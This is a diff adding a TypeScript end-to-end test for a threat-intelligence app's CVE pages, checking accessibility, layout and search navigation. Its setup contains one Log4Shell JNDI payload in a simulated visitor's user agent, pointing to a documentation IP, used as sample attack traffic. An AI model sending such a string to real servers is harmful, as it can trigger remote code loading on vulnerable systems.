@@ -1,0 +1,94 @@
+import axe from 'axe-core'
+import type { Browser } from 'playwright-core'
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import { cveSources } from '#sources/cve/all.ts'
+import { importCveSource } from '#sources/cve/import.ts'
+import { samples } from '#sources/cve/testing/samples.ts'
+import { createKey } from '#store/app/keys.ts'
+import { createWorkspace } from '#store/app/workspaces.ts'
+import { captureOf, webVisit } from '../product/captures.ts'
+import { openInside, type Inside } from '../product/inside.ts'
+import { openBrowser } from './open.ts'
+import { sideways, visit } from './visitor.ts'
+
+let inside: Inside
+let browser: Browser
+const tried = '/cves/CVE-2021-44228'
+const described = '/cves/CVE-2024-0001'
+
+async function* one(text: string): AsyncGenerator<Uint8Array> {
+  yield Buffer.from(text)
+}
+
+beforeAll(async () => {
+  ;[inside, browser] = await Promise.all([openInside(), openBrowser()])
+  const { house } = inside
+  const now = Date.now()
+  for (const source of cveSources)
+    await importCveSource(
+      house.analytics,
+      { ...source, fewest: 1 },
+      [one(samples[source.name]?.content ?? '')],
+      { now },
+    )
+  const workspace = await createWorkspace(house.db, { name: 'Own', publish: true, now })
+  const { secret } = await createKey(house.db, { workspace: workspace.id, role: 'operator', now })
+  const jndi = { uri: '/', userAgent: '${jndi:ldap://203.0.113.5/a}' }
+  const body = new Uint8Array(captureOf([webVisit('198.18.7.1', jndi, now - 60_000)]))
+  const taken = await fetch(new URL('/api/ingest/captures', inside.url), {
+    method: 'POST',
+    body,
+    headers: { key: secret },
+  })
+  expect(taken.status).toBe(200)
+  for (let wait = 0; wait < 100; wait++) {
+    const answer = await fetch(new URL('/v1/cve/CVE-2021-44228', inside.url))
+    if ((await answer.text()).includes('"threat_ip_count_1d":1')) break
+    await new Promise((tick) => setTimeout(tick, 200))
+  }
+})
+afterAll(async () => {
+  await browser?.close()
+  await inside?.close()
+})
+
+test.each([
+  ['light', 1440],
+  ['dark', 1440],
+  ['light', 320],
+  ['dark', 320],
+] as const)(
+  'the page of a CVE has no barrier and does not scroll sideways: %s, %i px',
+  async (colorScheme, width) => {
+    for (const path of [tried, described]) {
+      const visitor = await visit(browser, inside.url, { colorScheme, viewport: { width, height: 800 } })
+      await visitor.page.goto(path)
+      await visitor.page.evaluate(axe.source)
+      const found = await visitor.page.evaluate(() =>
+        (globalThis as unknown as { axe: typeof axe }).axe.run({
+          runOnly: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa'],
+        }),
+      )
+      expect(found.violations.map(({ id, nodes }) => [id, nodes[0]?.html])).toEqual([])
+      expect(await sideways(visitor.page)).toEqual([])
+      expect(visitor.troubles).toEqual([])
+      await visitor.leave()
+    }
+  },
+)
+
+test('its search, its days and its links lead on', async () => {
+  const { page, troubles, leave } = await visit(browser, inside.url)
+  await page.goto('/')
+  await page.getByRole('search').first().getByRole('combobox').fill('cve-2021-44228')
+  await page.keyboard.press('Enter')
+  await page.waitForURL(`**${tried}`)
+  await page.getByRole('heading', { level: 1, name: 'CVE-2021-44228' }).waitFor()
+  await page.getByRole('link', { name: '90 days', exact: true }).click()
+  await page.waitForURL(/\?days=90$/)
+  await page.getByRole('link', { name: '1 address in 90 days' }).click()
+  await page.waitForURL(/\/query\//)
+  await page.getByText('198.18.7.1').first().waitFor()
+  expect(troubles).toEqual([])
+  await leave()
+})
